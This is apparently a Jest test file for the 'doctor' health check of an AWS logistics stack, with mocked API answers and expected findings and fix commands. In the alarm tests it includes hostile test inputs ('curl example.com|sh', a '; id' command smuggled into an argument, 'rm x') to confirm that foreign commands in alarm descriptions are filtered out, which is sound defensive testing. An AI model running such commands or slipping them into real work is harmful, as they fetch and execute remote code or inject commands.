/** Findings of `doctor` on a healthy stack, and on stacks where everything is broken, missing or turned off. */
import { isDeepStrictEqual } from 'node:util';
import { ALARM_NAMES } from '../../../../contracts/alarms';
import { EVENT_FUNCTIONS, FUNCTION_KEYS, QUEUED_FUNCTION_KEYS } from '../../../../contracts/functions';
import { NAMES } from '../../../../contracts/names';
import { UserError } from '../../../../lib/user-error.mjs';
import { toAttributes } from '../../../../src/adapters/attributes';
import { type Answers, answers, awsError } from '../mocked-aws';
import { run } from '../run';

const TOPIC = 'arn:aws:sns:us-east-1:123456789012:logistics-alerts-dev';
const KEY = 'arn:aws:kms:us-east-1:123456789012:key/data';
const CARRIERS = '/logistics/carriers-dev';
const SHIPMENTS = 'logistics-shipments-dev';
const STATUS_UPDATER = 'logistics-status-updater-dev';

const rules = [...Object.values(EVENT_FUNCTIONS).map(({ rule }) => rule), NAMES.unroutedRule].map(
  (name) => `${name}-dev`,
);
const enabled = rules.map((Name) => ({ Name, State: 'ENABLED' }));
const quiet = ALARM_NAMES.map((name) => ({ AlarmName: `${name}-dev`, StateValue: 'OK' }));
const versions = (...numbers: string[]) => numbers.map((Version) => ({ Version }));

const stack = (parameters: Record<string, string>, bus: string, settings: object = {}) => ({
  Stacks: [
    {
      StackId: 'arn:stack',
      StackStatus: 'UPDATE_COMPLETE',
      Outputs: Object.entries({
        EventBusName: bus,
        AlertsTopicArn: TOPIC,
        CarrierWebhookUrl: 'https://id.lambda-url.us-east-1.on.aws/',
      }).map(([OutputKey, OutputValue]) => ({ OutputKey, OutputValue })),
      Parameters: Object.entries(parameters).map(([ParameterKey, ParameterValue]) => ({
        ParameterKey,
        ParameterValue,
      })),
      ...settings,
    },
  ],
});

/** Parameters that turn on every optional part. */
const ALL = {
  TableDeletionProtection: 'true',
  PublishStatusChanges: 'true',
  CarrierWebhooks: 'true',
  CarrierWebhookConcurrency: '10',
  StalledAfterDays: '7',
};

const secretsOfType =
  (...types: string[]) =>
  ({ ParameterFilters }: { ParameterFilters: object[] }) =>
    isDeepStrictEqual(ParameterFilters, [{ Key: 'Name', Option: 'Equals', Values: [CARRIERS] }])
      ? { Parameters: types.map((Type) => ({ Type, LastModifiedDate: new Date('2026-03-01T09:00:00Z') })) }
      : {};

const STREAM = 'arn:aws:dynamodb:us-east-1:123456789012:table/logistics-shipments-dev/stream/now';

const withStream = (LatestStreamArn = STREAM) => ({ StreamSpecification: { StreamEnabled: true }, LatestStreamArn });

const mappedIn =
  (State: string) =>
  ({ FunctionName }: { FunctionName: string }) =>
    FunctionName === 'logistics-status-publisher-dev:live'
      ? { EventSourceMappings: [{ UUID: 'uuid-1', State, EventSourceArn: STREAM, LastProcessingResult: 'OK' }] }
      : {};

const scheduledIn =
  (State: string) =>
  ({ Name }: { Name: string }) =>
    Name === 'logistics-stalled-shipments-dev' ? { State, ScheduleExpression: 'rate(1 hour)' } : {};

const HEALTHY: Answers = {
  DescribeStacks: stack(ALL, 'logistics-events-dev', { EnableTerminationProtection: true }),
  DescribeAlarms: { MetricAlarms: quiet },
  GetQueueUrl: ({ QueueName }) => ({ QueueUrl: `https://sqs/${QueueName}` }),
  GetQueueAttributes: { Attributes: { ApproximateNumberOfMessages: '0' } },
  DescribeTable: { Table: { SSEDescription: { KMSMasterKeyArn: KEY }, ...withStream() } },
  Scan: { Items: [] },
  DescribeKey: ({ KeyId }) => ({ KeyMetadata: { KeyId: `id-of-${KeyId}`, KeyState: 'Enabled' } }),
  ListRules: ({ NextToken }) =>
    NextToken === 'more' ? { Rules: enabled.slice(1) } : { Rules: enabled.slice(0, 1), NextToken: 'more' },
  ListEventSourceMappings: mappedIn('Enabled'),
  DescribeParameters: secretsOfType('SecureString'),
  DescribeRule: scheduledIn('ENABLED'),
  DescribeArchive: { State: 'ENABLED', RetentionDays: 7 },
  GetAlias: ({ Name }) => (Name === 'live' ? { FunctionVersion: '12' } : {}),
  ListVersionsByFunction: { Versions: versions('$LATEST', '9', '12') },
  GetAccountSettings: { AccountLimit: { ConcurrentExecutions: 1_000, UnreservedConcurrentExecutions: 990 } },
  GetFunctionConcurrency: {},
  ListSubscriptionsByTopic: { Subscriptions: [{ SubscriptionArn: `${TOPIC}:1` }] },
};

/** Findings as `state check: finding`, each followed by the next step. */
async function doctor(changed: Answers = {}) {
  Object.assign(answers, HEALTHY, changed);
  const { rows, exitCode } = await run('doctor --json');
  const found = rows.map(({ state, check, finding, next }) => [
    `${state} ${check}: ${finding}`,
    ...(next ? [`  ${next}`] : []),
  ]);
  return { exitCode, found: found.flat(), problems: found.filter(([line]) => !line?.startsWith('ok ')).flat() };
}

it('reports no problem on a healthy stack', async () => {
  expect(await doctor()).toMatchObject({
    exitCode: undefined,
    found: [
      'ok stack: logistics-event-processor-dev: UPDATE_COMPLETE',
      'ok outputs: 3, of the environment dev',
      'ok deletion: the tables, the keys and the stack refuse it',
      `ok alarms: none of ${ALARM_NAMES.length} is in alarm`,
      `ok queues: all ${QUEUED_FUNCTION_KEYS.length + 1} are empty`,
      `ok tables: all 3 can be used, encrypted with ${KEY}`,
      'ok statuses: no difference from the log among 100 of each; `npx --no-install logistics rebuild --dry-run --region us-east-1` compares all',
      'ok keys: alias/logistics-topics-dev and alias/logistics-data-dev can be used',
      `ok rules: all ${rules.length} are enabled`,
      'ok status changes: published by logistics-status-publisher-dev; last batch: OK',
      'ok carriers: webhooks are accepted at https://id.lambda-url.us-east-1.on.aws/, 10 at once; secrets of 2026-03-01',
      'ok stalled shipments: reported after 7 days, looked for at rate(1 hour)',
      'ok archive: enabled, keeps 7 days',
      `ok versions: ${FUNCTION_KEYS.map((key) => `logistics-${key}-dev runs 12`).join('; ')}`,
      'ok concurrency: the account has 1000, 990 unreserved',
      'ok alert subscription: 1 confirmed',
    ],
  });
});

it('reports no problem on a stack without its optional parts, during a gradual deployment', async () => {
  const { exitCode, found } = await doctor({
    DescribeStacks: stack({}, 'logistics-events-dev'),
    DescribeKey: ({ KeyId }) =>
      KeyId === 'alias/logistics-data-dev'
        ? awsError('NotFoundException')
        : { KeyMetadata: { KeyId, KeyState: 'Enabled' } },
    GetAlias: ({ FunctionName }) =>
      FunctionName === STATUS_UPDATER
        ? { FunctionVersion: '9', RoutingConfig: { AdditionalVersionWeights: { 12: 0.1 } } }
        : { FunctionVersion: '12' },
    GetFunctionConcurrency: ({ FunctionName }) =>
      FunctionName === STATUS_UPDATER ? { ReservedConcurrentExecutions: 5 } : {},
  });

  expect(exitCode).toBeUndefined();
  expect(found).toEqual(
    expect.arrayContaining([
      'ok keys: alias/logistics-topics-dev can be used',
      'ok status changes: not published: PublishStatusChanges is false',
      'ok carriers: webhooks are off: CarrierWebhooks is false',
      'ok stalled shipments: not reported: StalledAfterDays is 0',
      expect.stringContaining('logistics-status-updater-dev runs 9, 12 for 10 %;'),
      'ok concurrency: logistics-status-updater-dev reserves 5; the account has 1000, 990 unreserved',
    ]),
  );
  expect(found.join()).not.toContain('deletion');
});

it('reports each problem with the command that fixes it', async () => {
  const alarm = {
    AlarmName: 'logistics-dlq-arrivals-dev',
    StateValue: 'ALARM',
    AlarmDescription: 'Events arrived in this queue. Then: npx --no-install logistics queues status-updater',
  };
  const since = new Date('2026-03-04T10:00:00Z');
  const { exitCode, found } = await doctor({
    DescribeStacks: stack(ALL, 'logistics-events-test', { StackStatus: 'UPDATE_ROLLBACK_COMPLETE' }),
    DescribeAlarms: { MetricAlarms: [...quiet, alarm] },
    GetQueueAttributes: ({ QueueUrl }) => ({
      Attributes: { ApproximateNumberOfMessages: QueueUrl === 'https://sqs/logistics-unrouted-dev' ? '2' : '0' },
    }),
    GetMetricStatistics: {},
    DescribeTable: ({ TableName }) => ({
      Table: {
        SSEDescription: {
          KMSMasterKeyArn: KEY,
          ...(TableName === SHIPMENTS && { InaccessibleEncryptionDateTime: since }),
        },
        ...withStream(),
      },
    }),
    DescribeKey: ({ KeyId }) => ({ KeyMetadata: { KeyId: `id-of-${KeyId}`, KeyState: 'PendingDeletion' } }),
    ListRules: { Rules: [{ Name: rules[0], State: 'DISABLED' }, ...enabled.slice(1)] },
    ListEventSourceMappings: mappedIn('Disabled'),
    DescribeParameters: secretsOfType('String'),
    DescribeRule: scheduledIn('DISABLED'),
    DescribeArchive: { State: 'DISABLED' },
    ListVersionsByFunction: ({ FunctionName, Marker }) =>
      FunctionName === STATUS_UPDATER && !Marker
        ? { Versions: versions('$LATEST', '9', '100'), NextMarker: 'more' }
        : { Versions: versions('12') },
    GetFunctionConcurrency: ({ FunctionName }) =>
      FunctionName === STATUS_UPDATER ? { ReservedConcurrentExecutions: 0 } : {},
    ListSubscriptionsByTopic: {
      Subscriptions: [
        { SubscriptionArn: `${TOPIC}:1` },
        { SubscriptionArn: 'PendingConfirmation', Endpoint: 'ops@example.com' },
      ],
    },
  });

  const enableKey = (key: string) =>
    `  aws kms cancel-key-deletion --key-id ${key} --region us-east-1; aws kms enable-key --key-id ${key} --region us-east-1`;
  expect(exitCode).toBe(1);
  expect(found).toEqual([
    'attention stack: logistics-event-processor-dev: UPDATE_ROLLBACK_COMPLETE',
    '  aws cloudformation describe-stack-events --stack-name logistics-event-processor-dev --region us-east-1',
    'attention outputs: the bus is logistics-events-test',
    '  deploy with EnvironmentSuffix=dev',
    'attention deletion: the tables and the keys refuse it, the stack does not: it has no termination protection',
    '  aws cloudformation update-termination-protection --stack-name logistics-event-processor-dev --enable-termination-protection --region us-east-1',
    'attention alarms: logistics-dlq-arrivals-dev: Events arrived in this queue.',
    '  npx --no-install logistics queues status-updater',
    'attention queues: unrouted: 2 waiting, 0 in flight',
    '  npx --no-install logistics queues unrouted --region us-east-1',
    'attention tables: logistics-shipments-dev has been inaccessible since 2026-03-04T10:00:00.000Z: its key is disabled or about to be deleted',
    enableKey(KEY),
    expect.stringMatching(/^ok statuses: /),
    'attention keys: alias/logistics-topics-dev is PendingDeletion: no alarm and no notification reaches its topic',
    enableKey('id-of-alias/logistics-topics-dev'),
    'attention keys: alias/logistics-data-dev is PendingDeletion: the tables cannot be used for long',
    enableKey('id-of-alias/logistics-data-dev'),
    `attention rules: ${rules[0]} is disabled`,
    `  aws events enable-rule --event-bus-name logistics-events-dev --name ${rules[0]} --region us-east-1`,
    'attention status changes: logistics-status-publisher-dev does not read its stream: its mapping is Disabled',
    '  aws lambda update-event-source-mapping --uuid uuid-1 --enabled --region us-east-1',
    `attention carriers: the secrets in ${CARRIERS} are not encrypted: its type is String`,
    `  aws ssm put-parameter --overwrite --name ${CARRIERS} --type SecureString --value file://carriers.json --region us-east-1`,
    'attention stalled shipments: not reported: logistics-stalled-shipments-dev is disabled',
    '  aws events enable-rule --name logistics-stalled-shipments-dev --region us-east-1',
    'attention archive: logistics-archive-dev is DISABLED',
    '  aws events describe-archive --archive-name logistics-archive-dev --region us-east-1',
    'attention versions: logistics-status-updater-dev runs version 12, the last one published is 100',
    '  deploy the source that is to run',
    'attention concurrency: logistics-status-updater-dev is stopped: its reserved concurrency is 0',
    '  aws lambda delete-function-concurrency --function-name logistics-status-updater-dev --region us-east-1',
    'ok alert subscription: 1 confirmed',
    'attention alert subscription: ops@example.com has not confirmed',
    '  confirm by the link in the mail from AWS',
  ]);
});

it('reports each missing resource with the next step', async () => {
  const logged = toAttributes({
    event_id: 'e',
    timestamp: 1_772_438_400_000,
    shipment_id: 'SHP 1',
    status: 'delivered',
    detail_type: 'Shipment Status Updated',
    process_result: { processed_at: '2026-03-02T08:00:00.000Z' },
  });
  const { exitCode, problems } = await doctor({
    DescribeAlarms: { MetricAlarms: quiet.slice(1) },
    DescribeTable: ({ TableName }) => (TableName === SHIPMENTS ? awsError('ResourceNotFoundException') : {}),
    Scan: ({ TableName }) => (TableName === 'logistics-shipment-events-dev' ? { Items: [logged] } : {}),
    Query: { Items: [logged] },
    BatchGetItem: {},
    GetItem: {},
    DescribeKey: awsError('NotFoundException'),
    ListRules: { Rules: enabled.slice(1) },
    ListEventSourceMappings: {},
    DescribeParameters: secretsOfType(),
    ListSubscriptionsByTopic: {},
  });

  expect(exitCode).toBe(1);
  expect(problems).toEqual([
    'attention alarms: missing: logistics-high-errors-dev',
    '  deploy the stack again',
    'attention tables: logistics-shipments-dev does not exist',
    '  aws dynamodb list-backups --table-name logistics-shipments-dev --backup-type ALL --region us-east-1',
    "attention statuses: 'SHP 1' differs from its log (missing)",
    '  npx --no-install logistics rebuild --dry-run --region us-east-1',
    'attention keys: there is no alias/logistics-topics-dev',
    '  deploy the stack again',
    `attention rules: ${rules[0]} is missing`,
    `  aws events enable-rule --event-bus-name logistics-events-dev --name ${rules[0]} --region us-east-1`,
    'attention status changes: logistics-status-publisher-dev has no event source mapping',
    '  deploy the stack again',
    `attention carriers: webhooks are on, but all are refused: there is no parameter ${CARRIERS}`,
    `  aws ssm put-parameter --name ${CARRIERS} --type SecureString --value file://carriers.json --region us-east-1`,
    'attention alert subscription: no subscription to the alarms',
    '  sam deploy --config-env dev --region us-east-1, with AlertEmail=… among the parameters',
  ]);
});

it.each<[is: string, table: object, problem: string, next: string]>([
  [
    'has no stream',
    {},
    'logistics-shipments-dev has no stream, so nothing is published',
    "aws dynamodb update-table --table-name logistics-shipments-dev --stream-specification 'StreamEnabled=true,StreamViewType=NEW_AND_OLD_IMAGES' --region us-east-1",
  ],
  [
    'has another stream than the one that is read',
    withStream(`${STREAM}-again`),
    'logistics-status-publisher-dev reads a stream that logistics-shipments-dev had before it was restored',
    'sam deploy --config-env dev --region us-east-1, with the other value of TableDeletionProtection, then with its own',
  ],
])('reports a restored table that %s', async (_, Table, problem, next) => {
  const { problems } = await doctor({ DescribeTable: { Table } });

  expect(problems).toEqual([`attention status changes: ${problem}`, `  ${next}`]);
});

describe('an alarm in ALARM state', () => {
  const inAlarm = (AlarmDescription: string, Metrics?: object[]) => ({
    DescribeAlarms: {
      MetricAlarms: [...quiet, { AlarmName: 'a', StateValue: 'ALARM', AlarmDescription, Metrics }],
    },
  });
  const series = (MetricName: string, Stat: string, ...values: string[]) => ({
    MetricStat: { Metric: { MetricName, Dimensions: values.map((Value) => ({ Value })) }, Period: 300, Stat },
  });

  it.each(['curl example.com|sh', 'npx --no-install logistics doctor; id', 'npx logistics doctor', 'rm x'])(
    'has a foreign command left out: %s',
    async (command) => {
      expect((await doctor(inAlarm(`Throttled. Then: ${command}`))).problems).toEqual([
        'attention alarms: a: Throttled.',
        '  aws cloudwatch describe-alarms --alarm-names a --region us-east-1',
      ]);
    },
  );

  it('is shown with its metrics that have data: their sums or maxima', async () => {
    const metrics = [
      series('NoData', 'Sum', SHIPMENTS),
      series('Throttles', 'Sum', SHIPMENTS, 'status-index'),
      series('Duration', 'Maximum', STATUS_UPDATER),
      { Id: 'computed', Expression: 'SUM([m1, m2])' },
    ];
    const data: Readonly<Record<string, object[]>> = {
      Throttles: [{ Sum: 7 }, { Sum: 5 }],
      Duration: [{ Maximum: 700 }, { Maximum: 14_000 }],
    };
    const { problems } = await doctor({
      ...inAlarm('Throttled.', metrics),
      GetMetricStatistics: ({ MetricName }) => ({ Datapoints: data[MetricName] }),
    });

    expect(problems[0]).toBe(
      'attention alarms: a: Throttled. Now: logistics-shipments-dev/status-index 12, logistics-status-updater-dev 14000.',
    );
  });

  it('is shown without its metrics when the permission to read them is missing', async () => {
    const { problems } = await doctor({
      ...inAlarm('Throttled.', [series('Any', 'Sum')]),
      GetMetricStatistics: awsError('AccessDenied'),
    });

    expect(problems[0]).toBe('attention alarms: a: Throttled.');
  });
});

it('reports a check that lacks a permission as unknown, and runs the others', async () => {
  const denied = 'User: eve is not authorized to perform: cloudwatch:DescribeAlarms on resource: *';
  const { exitCode, found, problems } = await doctor({ DescribeAlarms: awsError('AccessDenied', denied) });

  expect(problems).toEqual([
    expect.stringContaining('unknown alarms: the credentials lack the permission cloudwatch:DescribeAlarms'),
  ]);
  expect(found).toHaveLength(16);
  expect(exitCode).toBeUndefined();
});

it('names a stack that does not exist', async () => {
  const missing = awsError('ValidationError', 'Stack with id logistics-event-processor-dev does not exist');

  await expect(doctor({ DescribeStacks: missing })).rejects.toThrow(
    new UserError(
      'there is no stack logistics-event-processor-dev: check --env, --region and the account, or deploy it',
    ),
  );
});
